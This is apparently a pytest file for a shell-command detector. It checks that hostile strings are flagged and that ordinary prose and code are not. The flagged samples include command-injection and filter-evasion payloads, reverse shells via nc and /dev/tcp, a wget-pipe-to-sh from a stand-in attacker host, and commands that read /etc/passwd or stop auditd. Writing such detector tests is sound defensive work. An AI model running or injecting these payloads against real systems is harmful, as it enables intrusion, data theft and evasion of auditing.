"""Which undeclared texts are worth parsing as a command."""

from __future__ import annotations

import pytest

from yett.extract import shell


@pytest.mark.parametrize(
    "text",
    [
        "cat /etc/passwd",
        "x; rm -rf /tmp/y",
        "www.example.com;wget http://evil.example.com/a|sh",
        "a | nc -e /bin/sh 203.0.113.5 4444",
        "$(id)",
        "`whoami`",
        "() { :;}; /bin/sh -c 'id'",
        "|| ping -c 1 203.0.113.5 ||",
        "/bin/ca? /et*/passwd",
        "{l,-lh}s",
        "c$@at /etc/passwd",
        "pi``ng 203.0.113.5",
        "a=nc&&$a -nlvp 555",
        "cat${IFS}/etc/passwd",
        "x > /etc/cron.d/y",
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "#!/bin/sh\nreboot",
        "sudo systemctl stop auditd",
        "\\ls /root",
        "'curl' http://evil.example.com",
    ],
)
def test_a_command_in_a_value_is_seen(text: str) -> None:
    assert shell.looks_like(text)


@pytest.mark.parametrize(
    "text",
    [
        "Thanks & regards",
        "R&D budget for AT&T",
        "Meet at 5; bring the report (final)",
        "a hero; more than that",
        "We made it; time flies",
        "| name | value |\n|---|---|\n| a | b |",
        "https://example.com/search?q=a&page=2",
        "SELECT name FROM users WHERE id = 1; DELETE FROM log",
        "if (a && b) { return c; }",
        "const x = y => y + 1;",
        "The patient said: I can't sleep",
        "order #12, $5 off",
        "C:\\Users\\ann\\Documents",
        '{"a": 1, "b": [1, 2]}',
        "[link](https://example.com) and *emphasis*",
        "",
        "x",
    ],
)
def test_ordinary_text_is_not_a_command(text: str) -> None:
    assert not shell.looks_like(text)
